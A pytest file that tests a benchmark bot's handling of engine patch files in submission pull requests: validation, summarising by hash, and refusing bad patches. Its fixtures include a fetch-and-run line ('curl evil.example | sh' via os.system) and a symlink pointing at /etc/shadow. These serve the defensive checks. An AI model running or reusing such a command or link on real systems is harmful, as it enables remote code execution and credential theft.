"""Submissions that carry an engine patch, against the fake GitHub: the PR adds <name>.patch beside
<name>.yaml; the bot reads it through the API as data, checks it with the validator's code,
summarises it for the maintainer who reads it before /bench, and never renders its text."""

from __future__ import annotations

import hashlib
import json

from conftest import submission_yaml
from fakegithub import Entry
from helpers import HOSTILE, assert_neutralized

from arena import exitcodes
from bot import comments, labels
from bot.commands import on_issue_comment
from bot.fetch import fetch_submission
from bot.publish import expected_config_sha
from bot.validation import on_pull_request

YAML = "submissions/alice/fast.yaml"
PATCH = "submissions/alice/fast.patch"
OLD, NEW = "1" * 40, "2" * 40
# A line of code whose text must never reach the comment: the patch is shown as counts only.
SECRET_LINE = "+import os; os.system('curl evil.example | sh')  # " + HOSTILE


def diff(path: str = "vllm/attention/selector.py", body: str = SECRET_LINE) -> bytes:
    return (f"diff --git a/{path} b/{path}\n"
            f"index {OLD}..{NEW} 100644\n"
            f"--- a/{path}\n"
            f"+++ b/{path}\n"
            "@@ -10,3 +10,4 @@ def select():\n"
            " a\n"
            "-b\n"
            f"{body}\n"
            " c\n"
            "+d\n").encode()


def patched_yaml(name: str = "fast", *, source: bool = False) -> bytes:
    extra = f"  patch: {name}.patch\n"
    if source:
        extra += ("  source: {repo: alice/vllm, commit: "
                  '"fedcba9876543210fedcba9876543210fedcba98"}\n')
    return submission_yaml(name) + extra.encode()


def test_a_pr_with_a_yaml_and_a_patch_is_valid_and_the_comment_summarises_the_patch(
        fake, bot, pr_event):
    patch = diff()
    pr = fake.open_pull("alice", {YAML: patched_yaml(source=True), PATCH: patch})
    assert on_pull_request(bot, pr_event(pr.number)) == exitcodes.OK
    assert fake.labels_of(pr.number) == [labels.VALIDATION["valid"]]
    [comment] = fake.bot_comments(pr.number)
    body = comment.body
    assert "Submission check passed" in body
    sha256 = hashlib.sha256(patch).hexdigest()
    assert f"SHA-256 `{sha256}`" in body
    assert "1 file, +2 −1 lines" in body
    assert "`vllm/attention/selector.py`" in body
    assert f"/blob/{pr.head_sha}/{PATCH})" in body  # the file at the head commit, to read
    assert "tag `v0.32.0`" in body
    assert "`alice/vllm` at commit `fedcba9876543210fedcba9876543210fedcba98`" in body
    # The code itself is not in the comment: a maintainer reads it at the link.
    assert "os.system" not in body and "onerror" not in body
    assert_neutralized(body)
    reads = [c.path for c in fake.calls_to("repos/get-content")]
    assert any(r.endswith("/contents/" + PATCH) for r in reads)


def test_a_bad_patch_gets_annotations_on_the_patch_files_lines(fake, bot, pr_event):
    bad = diff("vllm/_version.py") + diff("setup.py").replace(b" 100644", b"")
    pr = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: bad})
    on_pull_request(bot, pr_event(pr.number))
    assert fake.labels_of(pr.number) == [labels.VALIDATION["invalid"]]
    [check] = fake.check_runs.values()
    assert check["conclusion"] == "failure"
    on_patch = sorted((a["start_line"], a["message"]) for a in check["annotations"]
                      if a["path"] == PATCH)
    assert [line for line, _ in on_patch] == [1, 11]
    assert "version file" in on_patch[0][1] and "outside vllm/" in on_patch[1][1]
    on_yaml = [a for a in check["annotations"] if a["path"] == YAML]
    yaml_line = patched_yaml().decode().splitlines().index("  patch: fast.patch") + 1
    assert [a["start_line"] for a in on_yaml] == [yaml_line]
    [comment] = fake.bot_comments(pr.number)
    assert f"{PATCH}:1:1:" in comment.body and "Submission check failed" in comment.body


def test_a_yaml_naming_a_patch_the_pr_lacks_is_refused(fake, bot, pr_event):
    pr = fake.open_pull("alice", {YAML: patched_yaml()})
    on_pull_request(bot, pr_event(pr.number))
    [comment] = fake.bot_comments(pr.number)
    assert "'fast.patch', which cannot be used: does not exist at commit" in comment.body
    assert fake.labels_of(pr.number) == [labels.VALIDATION["invalid"]]


def test_a_patch_alone_without_its_yaml_is_refused(fake, bot, pr_event):
    pr = fake.open_pull("alice", {PATCH: diff()})
    on_pull_request(bot, pr_event(pr.number))
    [comment] = fake.bot_comments(pr.number)
    assert "is an engine patch, but no submission names it" in comment.body
    assert "fast.yaml" in comment.body
    assert fake.labels_of(pr.number) == [labels.VALIDATION["invalid"]]
    [check] = fake.check_runs.values()
    assert [a["path"] for a in check["annotations"]] == [PATCH]


def test_a_patch_changed_alone_is_validated_with_the_yaml_beside_it(fake, bot, pr_event):
    """The YAML is on the branch already; only the patch changes, so the configuration does."""
    pr = fake.open_pull("alice", {PATCH: diff(body="+faster")})
    fake.commits[pr.head_sha][YAML] = Entry("file", patched_yaml())
    on_pull_request(bot, pr_event(pr.number))
    assert fake.labels_of(pr.number) == [labels.VALIDATION["valid"]]
    body = fake.bot_comments(pr.number)[0].body
    assert "`alice/fast`" in body and "Engine patch of `alice/fast`" in body


def test_a_patch_the_yaml_beside_it_does_not_name_is_refused(fake, bot, pr_event):
    pr = fake.open_pull("alice", {YAML: submission_yaml(), PATCH: diff()})
    on_pull_request(bot, pr_event(pr.number))
    assert "no submission names it" in fake.bot_comments(pr.number)[0].body
    assert fake.labels_of(pr.number) == [labels.VALIDATION["invalid"]]


def test_other_files_beside_the_yaml_are_still_refused(fake, bot, pr_event):
    for name in ("fast.sh", "fast.diff", "Fast.patch", "fast.patch.py"):
        pr = fake.open_pull("alice", {YAML: submission_yaml(), f"submissions/alice/{name}": b"x"})
        on_pull_request(bot, pr_event(pr.number))
        body = fake.bot_comments(pr.number)[0].body
        assert "their engine patches (<name>.patch)" in body, name
        assert fake.labels_of(pr.number) == [labels.VALIDATION["invalid"]]


def test_a_patch_in_someone_elses_folder_is_refused(fake, bot, pr_event):
    pr = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: diff(),
                                  "submissions/bob/fast.patch": diff()})
    on_pull_request(bot, pr_event(pr.number))
    assert "is outside submissions/alice/" in fake.bot_comments(pr.number)[0].body


def test_a_patch_that_is_a_link_or_too_large_is_refused(fake, bot, pr_event):
    pr = fake.open_pull("alice", {YAML: patched_yaml(),
                                  PATCH: Entry("symlink", target="/etc/shadow")})
    on_pull_request(bot, pr_event(pr.number))
    assert "symbolic link" in fake.bot_comments(pr.number)[0].body
    big = diff() + b"#" * 300000
    pr2 = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: big})
    on_pull_request(bot, pr_event(pr2.number))
    assert "a patch may be at most 262144" in fake.bot_comments(pr2.number)[0].body


def test_hostile_paths_in_a_bad_patch_are_neutralised(fake, bot, pr_event):
    evil = diff().replace(b"vllm/attention/selector.py",
                          json.dumps(HOSTILE).encode()[1:-1].replace(b" ", b"_"))
    pr = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: evil})
    on_pull_request(bot, pr_event(pr.number))
    [comment] = fake.bot_comments(pr.number)
    assert "Submission check failed" in comment.body
    assert_neutralized(comment.body)
    for check in fake.check_runs.values():
        assert_neutralized(check["output"]["summary"])


def test_bench_records_and_shows_the_patch_sha256(fake, bot, comment_event, validate):
    patch = diff()
    pr = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: patch})
    fake.collaborators["carol"] = "write"
    validate(bot, pr.number)  # /bench approves the head the validation named
    assert on_issue_comment(bot, comment_event(pr.number, "/bench", "carol")) == exitcodes.OK
    assert len(fake.dispatches) == 1
    queued = [c.body for c in fake.bot_comments(pr.number) if "Benchmark queued" in c.body]
    [body] = queued
    sha256 = hashlib.sha256(patch).hexdigest()
    assert comments.parse_marker(body)["patch"] == sha256
    assert f"SHA-256 `{sha256}`" in body and "+2 −1 lines" in body


def test_fetch_submission_writes_the_checked_patch_beside_the_yaml(fake, make_bot, challenge,
                                                                    tmp_path):
    patch = diff()
    pr = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: patch})
    bot = make_bot(challenge, token="read-token")
    out = tmp_path / "sub" / "fast.yaml"
    assert fetch_submission(bot, pr=pr.number, sha=pr.head_sha, path=YAML, out=out) == \
        exitcodes.OK
    assert out.read_bytes() == patched_yaml()
    assert (out.parent / "fast.patch").read_bytes() == patch
    assert all(c.method == "GET" for c in fake.calls)
    # A bad patch at the approved commit: nothing is written.
    fake.push(pr.number, {PATCH: diff("setup.py")})
    out2 = tmp_path / "again" / "fast.yaml"
    assert fetch_submission(bot, pr=pr.number, sha=fake.pulls[pr.number].head_sha, path=YAML,
                            out=out2) == exitcodes.INVALID
    assert not out2.exists() and not (out2.parent / "fast.patch").exists()


def test_publish_recomputes_the_config_hash_with_the_patch(fake, make_bot, challenge):
    pr = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: diff()})
    bot = make_bot(challenge, token="read-token")
    with_patch, problem = expected_config_sha(bot, YAML, pr.head_sha)
    assert problem is None
    pr2 = fake.open_pull("alice", {YAML: patched_yaml(), PATCH: diff(body="+other")})
    other, _ = expected_config_sha(bot, YAML, pr2.head_sha)
    assert with_patch != other


def test_removing_a_patch_its_yaml_still_names_is_refused(fake, bot, pr_event):
    pr = fake.open_pull("alice", {PATCH: None})
    fake.commits[pr.head_sha][YAML] = Entry("file", patched_yaml())
    on_pull_request(bot, pr_event(pr.number))
    body = fake.bot_comments(pr.number)[0].body
    assert "'fast.patch', which cannot be used: does not exist" in body
    assert fake.labels_of(pr.number) == [labels.VALIDATION["invalid"]]
    # Removing both is a plain removal.
    pr2 = fake.open_pull("alice", {PATCH: None, YAML: None})
    on_pull_request(bot, pr_event(pr2.number))
    assert fake.labels_of(pr2.number) == [labels.VALIDATION["valid"]]
